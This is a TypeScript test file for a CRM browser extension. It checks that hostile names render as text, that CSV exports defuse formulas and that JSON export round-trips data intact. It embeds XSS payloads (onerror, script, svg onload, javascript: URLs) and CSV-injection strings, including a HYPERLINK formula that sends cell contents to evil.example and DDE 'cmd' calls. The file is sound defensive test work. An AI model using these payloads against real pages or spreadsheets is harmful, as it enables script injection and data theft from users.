// Page text is data, never markup: names carrying HTML, script and formulas show as text in the popup and the options
// page, CSV exports defuse formulas and quote safely, and the JSON export gives every string back unchanged.
import { render, screen, waitFor, within } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import fc from 'fast-check';
import { beforeEach, describe, expect, it, vi } from 'vitest';
import { ingestSnapshot } from '../../entrypoints/background/handlers';
import { App as OptionsApp } from '../../entrypoints/options/App';
import type { Download } from '../../entrypoints/options/download';
import { App as PopupApp } from '../../entrypoints/popup/App';
import { activitiesCsv, BOM, CSV_EN, CSV_RU, csvCell, dealsCsv, exportAll, importAll, parseExport, toCsv, type CsvDialect } from '../../lib/data-transfer';
import { db, SalesDb } from '../../lib/db';
import type { ActivityFields, DealFields, Snapshot } from '../../lib/model';
import { saveSettings } from '../../lib/queries';
import { usePopupStore } from '../../lib/store';
import { FUZZ_TIMEOUT, LONE_SURROGATE, MARKUP_PAYLOADS, RUNS, saneText, WORLD_NAMES } from '../support/fuzz';

const ACCOUNT = 'https://acme.amocrm.ru';
// Wednesday 18 November 2026, 15:30 local (as tests/components/popup.test.tsx).
const NOW = new Date(2026, 10, 18, 15, 30);
const at = (day: number, h: number, m = 0) => new Date(2026, 10, day, h, m).getTime();

declare global {
  interface Window {
    xssFired?: string;
  }
}
/** Each payload would set window.xssFired if it ever ran as markup. */
const IMG = '<img src=x onerror="window.xssFired=\'img\'">';
const SCRIPT = '<script>window.xssFired="script"</script>';
const SVG = '"><svg onload="window.xssFired=\'svg\'">';
const JS_URL = 'javascript:window.xssFired="href"';
const IFRAME = '<iframe srcdoc="<script>parent.xssFired=1</script>"></iframe>';

const NAMES = {
  deal: `${IMG} ООО «Ромашка»`,
  client: `${SCRIPT} ИП Соколов`,
  manager: `${SVG} Ирина`,
  otherManager: `${IFRAME} Олег`,
  managerTitle: `${JS_URL} Отдел продаж`,
  stage: `${IMG}КП отправлено`,
  pipeline: `${SCRIPT}Продажи`,
  lossReason: `${JS_URL} Дорого`,
  account: `${SVG}acme`,
  problem: `amoCRM: ${IMG} 3 cards without amount`,
} as const;

function deal(id: string, patch: Partial<DealFields> = {}): DealFields {
  return {
    crmId: id, title: `Сделка ${id}`, amount: 100_000, currency: 'RUB', pipelineId: 'p', stageId: 's1', status: 'open', ownerId: '7',
    createdAt: at(1, 10), stageEnteredAt: at(17, 10), updatedAt: at(17, 10), closedAt: null, lossReason: null, client: null,
    nextTaskAt: at(19, 10), url: `${ACCOUNT}/leads/detail/${id}`, ...patch,
  };
}
const call = (id: string, ownerId: string, outcome: string | null = null): ActivityFields => ({
  crmId: id, type: 'call', at: at(18, 10, Number(id.replace(/\D/g, '')) % 60), ownerId, dealId: '1', durationSec: 90, direction: 'out', outcome,
});

function hostileSnapshot(): Snapshot {
  return {
    crm: 'amocrm', account: ACCOUNT, accountName: NAMES.account, currency: 'RUB', source: 'api', readAt: NOW.getTime() - 120_000, currentUserId: '7',
    managers: [
      { crmId: '7', name: NAMES.manager, title: NAMES.managerTitle, active: true },
      { crmId: '8', name: NAMES.otherManager, title: null, active: true },
    ],
    pipelines: [{ crmId: 'p', name: NAMES.pipeline, order: 1 }],
    stages: [
      { crmId: 's1', pipelineId: 'p', name: NAMES.stage, order: 1, kind: 'open' },
      { crmId: 'lost', pipelineId: 'p', name: `${IMG} Закрыто`, order: 9, kind: 'lost' },
    ],
    deals: [
      // Stalled (11 working days in its stage, no next task): shown as a link in My day.
      deal('1', { title: NAMES.deal, client: NAMES.client, stageEnteredAt: at(3, 10), nextTaskAt: null }),
      deal('2', { status: 'lost', stageId: 'lost', closedAt: at(18, 11), lossReason: NAMES.lossReason, client: NAMES.client }),
      deal('9', { ownerId: '8', title: `${SCRIPT} Сделка Олега`, stageEnteredAt: at(2, 10), nextTaskAt: null }),
    ],
    tasks: [],
    activities: [call('c1', '7', `${IMG} Разговор состоялся`), call('c2', '8')],
    problems: [{ code: 'amount-missing', message: NAMES.problem }],
  };
}

async function seed(s: Snapshot = hostileSnapshot()) {
  await ingestSnapshot(db, { kind: 'snapshot', part: { index: 0, count: 1 }, snapshot: s });
  await saveSettings(db, (current) => ({ ...current, language: 'en', roles: { [`${ACCOUNT}|7`]: 'account_manager', [`${ACCOUNT}|8`]: 'cold_caller' } }));
}

/** Nothing in `root` was made from page text: no active elements, no event-handler attributes, no link off the CRM. */
function expectOnlyText(root: Element) {
  expect(root.querySelectorAll('img, script, svg, iframe, object, embed, style, link, meta, base, form[action]')).toHaveLength(0);
  for (const el of root.querySelectorAll('*')) {
    for (const attribute of el.attributes) {
      expect(`${el.tagName} ${attribute.name}`).not.toMatch(/ on/i);
      if (attribute.name === 'href' || attribute.name === 'src' || attribute.name === 'action') expect(attribute.value).toMatch(/^https:\/\/acme\.amocrm\.ru\//);
    }
  }
  expect(window.xssFired).toBeUndefined();
}

beforeEach(async () => {
  await Promise.all(db.tables.map((table) => table.clear()));
  usePopupStore.setState({ tab: 'my-day', managerId: null, showAllStalled: false });
  delete window.xssFired;
  history.replaceState(null, '', '#');
});

// ---------------------------------------------------------------- popup

describe('the popup shows page text as text', () => {
  it('My day: the deal title, the stage, the manager, the account and the problem are text; the deal link stays on the CRM', async () => {
    await seed();
    const { container } = render(<PopupApp now={NOW} />);
    const stalled = await screen.findByTestId('stalled');
    const link = within(stalled).getAllByRole('link').find((a) => a.textContent === NAMES.deal);
    expect(link?.getAttribute('href')).toBe(`${ACCOUNT}/leads/detail/1`);
    expect(stalled.textContent).toContain(`«${NAMES.stage}»`);
    expect(screen.getByTestId('who').textContent).toContain(NAMES.manager);
    expect(screen.getByTestId('who').textContent).toContain(NAMES.account);
    expect(screen.getByTestId('problems').textContent).toContain(NAMES.problem);
    expectOnlyText(container);
  });

  it('Team: every manager name is text, in the table and in the row title', async () => {
    await seed();
    const { container } = render(<PopupApp now={NOW} />);
    await userEvent.click(await screen.findByRole('tab', { name: 'Team' }));
    const table = await screen.findByTestId('team');
    await waitFor(() => expect(within(table).getAllByRole('row')).toHaveLength(3));
    expect(table.textContent).toContain(NAMES.manager);
    expect(table.textContent).toContain(NAMES.otherManager);
    const titles = [...table.querySelectorAll('td[title]')].map((td) => td.getAttribute('title') ?? '');
    for (const name of [NAMES.manager, NAMES.otherManager]) expect(titles.some((title) => title.includes(name))).toBe(true);
    expectOnlyText(container);
    // And the other manager's day, opened from the table.
    const row = within(table).getAllByRole('row').find((r) => r.dataset.managerId === '8');
    if (!row) throw new Error('no row for manager 8');
    await userEvent.click(row);
    await waitFor(() => expect(screen.getByTestId('who').textContent).toContain(NAMES.otherManager));
    expect((await screen.findByTestId('stalled')).textContent).toContain(`${SCRIPT} Сделка Олега`);
    expectOnlyText(container);
  });
});

// ---------------------------------------------------------------- options page

function renderOptions(download = vi.fn<(file: Download) => void>()) {
  const sites = { listSites: vi.fn(async () => [{ origin: ACCOUNT, crm: 'amocrm' as const, granted: true }]), revokeSite: vi.fn(async () => undefined) };
  const view = render(<OptionsApp now={() => NOW} sites={sites} download={download} />);
  return { ...view, download, user: userEvent.setup() };
}

describe('the options page shows page text as text', () => {
  it('Team, Stages and Data: manager names and titles, pipeline and stage names, the account name', async () => {
    await seed();
    const { container, user } = renderOptions();
    const irina = await screen.findByTestId(`manager-${ACCOUNT}|7`);
    expect(irina.textContent).toContain(NAMES.manager);
    expect(irina.textContent).toContain(NAMES.managerTitle);
    expect((await screen.findByTestId(`manager-${ACCOUNT}|8`)).textContent).toContain(NAMES.otherManager);
    expectOnlyText(container);

    await user.click(screen.getByRole('button', { name: 'Stages' }));
    const pipeline = await screen.findByTestId(`pipeline-${ACCOUNT}|p`);
    expect(within(pipeline).getByText(NAMES.pipeline)).toBeTruthy();
    expect(within(pipeline).getByLabelText(NAMES.stage)).toBeTruthy();
    expectOnlyText(container);

    await user.click(screen.getByRole('button', { name: 'Data' }));
    expect((await screen.findByTestId(`tracked-${ACCOUNT}`)).textContent).toContain(NAMES.account);
    expectOnlyText(container);
  });

  it('the downloaded CSVs carry the names as defused, quoted text', async () => {
    await seed();
    const { user, download } = renderOptions();
    await user.click(await screen.findByRole('button', { name: 'Data' }));
    await user.click(await screen.findByRole('button', { name: 'Export deals CSV' }));
    await user.click(screen.getByRole('button', { name: 'Export calls/meetings CSV' }));
    await waitFor(() => expect(download).toHaveBeenCalledTimes(2));
    const [deals, calls] = download.mock.calls.map(([file]) => file.text);
    const dealRows = parseCsv(deals ?? '', ',');
    const header = dealRows[0] ?? [];
    const lost = dealRows.find((row) => row[header.indexOf('crmId')] === '2');
    expect(lost?.[header.indexOf('lossReason')]).toBe(NAMES.lossReason);
    expect(lost?.[header.indexOf('client')]).toBe(NAMES.client);
    expect(lost?.[header.indexOf('stage')]).toBe(`${IMG} Закрыто`);
    expect(lost?.[header.indexOf('pipeline')]).toBe(NAMES.pipeline);
    expect(lost?.[header.indexOf('account')]).toBe(NAMES.account);
    const callRows = parseCsv(calls ?? '', ',');
    expect(callRows.some((row) => row.includes(NAMES.deal) && row.includes(`${IMG} Разговор состоялся`) && row.includes(NAMES.manager))).toBe(true);
  });
});

// ---------------------------------------------------------------- CSV

/** RFC 4180 as Excel and LibreOffice read it: quoted cells may hold separators, quotes ("") and line breaks. */
function parseCsv(text: string, separator: string): string[][] {
  const body = text.startsWith(BOM) ? text.slice(BOM.length) : text;
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < body.length; i += 1) {
    const ch = body[i];
    if (quoted) {
      if (ch === '"' && body[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else if (ch === '"') {
        quoted = false;
      } else {
        cell += ch;
      }
    } else if (ch === '"' && cell === '') {
      quoted = true;
    } else if (ch === separator) {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && body[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i += 1;
    } else {
      cell += ch;
    }
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}

/** What a spreadsheet would run as a formula: a cell starting with one of these (OWASP "CSV injection"). */
const FORMULA = /^[=+\-@\t\r]/;

describe('CSV export defuses formulas and quotes safely', () => {
  const account = { account: ACCOUNT, crm: 'amocrm' as const, name: 'acme', currency: 'RUB', currentUserId: '7', lastReadAt: 0, lastGoodReadAt: 0, cursor: null, problems: [] };
  const keyed = (d: DealFields) => ({ ...d, key: `${ACCOUNT}|${d.crmId}`, account: ACCOUNT, seenAt: 0 });

  it.each<[string, string]>([
    ['equals', '=HYPERLINK("https://evil.example/?"&A1,"Открыть")'],
    ['plus', '+7 (999) 123-45-67'],
    ['minus', "-2+3+cmd|' /C calc'!A0"],
    ['at', "@SUM(1+1)*cmd|' /C calc'!A0"],
    ['tab', '\t=1+1'],
    ['carriage return', '\r=1+1'],
  ])('a title, client and loss reason starting with %s read back prefixed with \'', (_, payload) => {
    for (const dialect of [CSV_RU, CSV_EN]) {
      const csv = dealsCsv([keyed(deal('1', { title: payload, client: payload, lossReason: payload, status: 'lost' }))], { accounts: [account] }, dialect);
      const [header = [], row = []] = parseCsv(csv, dialect.separator);
      for (const column of ['title', 'client', 'lossReason']) {
        const cell = row[header.indexOf(column)] ?? '';
        expect([column, cell]).toEqual([column, `'${payload}`]);
        expect(FORMULA.test(cell)).toBe(false);
      }
    }
  });

  it('quotes separators, quotes and line breaks, in both dialects', () => {
    const title = 'ООО "Ромашка; Люкс", филиал\r\nМосква';
    for (const dialect of [CSV_RU, CSV_EN]) {
      const csv = dealsCsv([keyed(deal('1', { title }))], { accounts: [account] }, dialect);
      const rows = parseCsv(csv, dialect.separator);
      expect(rows).toHaveLength(2);
      expect(rows[1]?.[(rows[0] ?? []).indexOf('title')]).toBe(title);
    }
  });

  it('a negative amount stays a number (it is ours, not page text)', () => {
    expect(csvCell(-5000, CSV_RU)).toBe('-5000');
    expect(csvCell(-1250.5, CSV_RU)).toBe('-1250,5');
  });

  it('any text reads back from a CSV cell as itself, or as \'itself when a spreadsheet would run it (property-based)', { timeout: FUZZ_TIMEOUT }, () => {
    const text = fc.oneof(saneText, fc.constantFrom(...MARKUP_PAYLOADS, ...WORLD_NAMES), fc.string({ unit: 'binary', maxLength: 30 }), fc.stringMatching(/^[=+\-@\t\r"';,\n ]{1,3}.{0,10}$/));
    const dialect = fc.constantFrom<CsvDialect>(CSV_RU, CSV_EN);
    fc.assert(
      fc.property(fc.array(fc.array(text, { minLength: 1, maxLength: 4 }), { minLength: 1, maxLength: 5 }), dialect, (grid, d) => {
        const width = Math.max(...grid.map((r) => r.length));
        const rows = grid.map((r) => Array.from({ length: width }, (_, i) => r[i] ?? ''));
        const columns = Array.from({ length: width }, (_, i) => ({ header: `c${i}`, value: (row: string[]) => row[i] ?? '' }));
        const parsed = parseCsv(toCsv(rows, columns, d), d.separator).slice(1);
        expect(parsed).toEqual(rows.map((r) => r.map((cell) => (FORMULA.test(cell) ? `'${cell}` : cell))));
        for (const cell of parsed.flat()) expect(FORMULA.test(cell)).toBe(false);
      }),
      { numRuns: RUNS.json },
    );
  });

  it('activitiesCsv defuses a formula in a call outcome and in the looked-up deal title and manager name', () => {
    const activity = { ...call('c1', '7', '=1+1'), key: `${ACCOUNT}|c1`, account: ACCOUNT, seenAt: 0 };
    const csv = activitiesCsv([activity], {
      accounts: [account],
      managers: [{ key: `${ACCOUNT}|7`, account: ACCOUNT, crmId: '7', seenAt: 0, name: '@manager', title: null, active: true }],
      deals: [keyed(deal('1', { title: '+deal' }))],
    }, CSV_EN);
    const [header = [], row = []] = parseCsv(csv, ',');
    expect(row[header.indexOf('outcome')]).toBe("'=1+1");
    expect(row[header.indexOf('owner')]).toBe("'@manager");
    expect(row[header.indexOf('deal')]).toBe("'+deal");
  });
});

// ---------------------------------------------------------------- JSON export

describe('the JSON export gives every string back unchanged', () => {
  it('markup, formulas, bidi controls, emoji and a lone surrogate survive export → import → export byte for byte', async () => {
    const s = hostileSnapshot();
    s.deals.push(deal('3', { title: `${LONE_SURROGATE} ${WORLD_NAMES.join(' | ')}`, client: MARKUP_PAYLOADS.join(' ') }));
    await seed(s);
    const exported = await exportAll(db, NOW);
    const parsed = parseExport(exported);
    if (!parsed.ok) throw new Error(parsed.error);
    expect(parsed.file.tables.deals.find((d) => d.crmId === '1')?.title).toBe(NAMES.deal);
    expect(parsed.file.tables.deals.find((d) => d.crmId === '3')?.title).toBe(`${LONE_SURROGATE} ${WORLD_NAMES.join(' | ')}`);
    expect(parsed.file.tables.managers.map((m) => m.name).sort()).toEqual([NAMES.manager, NAMES.otherManager].sort());
    const copy = new SalesDb(`xss-import-${Math.random()}`);
    const imported = await importAll(copy, exported);
    expect(imported.ok).toBe(true);
    expect(await exportAll(copy, NOW)).toBe(exported);
    expect(await copy.deals.toArray()).toEqual(await db.deals.toArray());
    copy.close();
    await copy.delete();
  });

  it('any names round-trip exactly (property-based)', { timeout: FUZZ_TIMEOUT }, async () => {
    const text = fc.oneof(saneText, fc.constantFrom(LONE_SURROGATE, `a${LONE_SURROGATE}b`, ...MARKUP_PAYLOADS));
    await fc.assert(
      fc.asyncProperty(fc.record({ title: text, client: text, manager: text, stage: text, outcome: text }), async (names) => {
        await Promise.all(db.tables.map((table) => table.clear()));
        const s = hostileSnapshot();
        s.deals = [deal('1', { title: names.title, client: names.client })];
        s.managers = [{ crmId: '7', name: names.manager, title: names.stage, active: true }];
        s.stages = [{ crmId: 's1', pipelineId: 'p', name: names.stage, order: 1, kind: 'open' }];
        s.activities = [call('c1', '7', names.outcome)];
        await ingestSnapshot(db, { kind: 'snapshot', part: { index: 0, count: 1 }, snapshot: s });
        const parsed = parseExport(await exportAll(db, NOW));
        if (!parsed.ok) throw new Error(parsed.error);
        expect(parsed.file.tables.deals[0]).toMatchObject({ title: names.title, client: names.client });
        expect(parsed.file.tables.managers[0]).toMatchObject({ name: names.manager, title: names.stage });
        expect(parsed.file.tables.stages[0]?.name).toBe(names.stage);
        expect(parsed.file.tables.activities[0]?.outcome).toBe(names.outcome);
      }),
      { numRuns: RUNS.db },
    );
  });
});
